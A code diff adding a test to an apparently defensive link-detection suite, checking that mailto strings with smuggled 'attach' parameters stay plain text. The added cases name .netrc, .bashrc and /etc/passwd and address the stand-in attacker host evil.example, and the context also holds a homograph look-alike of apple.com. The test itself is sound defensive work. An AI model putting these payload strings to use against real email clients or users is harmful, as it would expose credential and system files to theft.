@@ -39,6 +39,15 @@ test('a link that hides a name and password before the host stays text', () => {
   );
 });
 
+test.each([
+  'eve&attach=.netrc&x=a@evil.example',
+  'mailto:x&attach=.bashrc&to=eve@evil.example',
+  'mailto:a@b.example%27,attachment=%27file:///etc/passwd',
+])('%s, which could attach a file to an email, stays text', (text) => {
+  for (const { url } of links(text)) expect(url).not.toMatch(/attach/u);
+  expect(links(`${text} and mailto:a@b.example?attach=x`).at(-1)?.url).toBe('mailto:a@b.example');
+});
+
 test('a look-alike host says where it really leads', () => {
   expect(links('https://аpple.com/login')).toEqual([
     expect.objectContaining({ url: 'https://xn--pple-43d.com/login', host: 'xn--pple-43d.com' }),
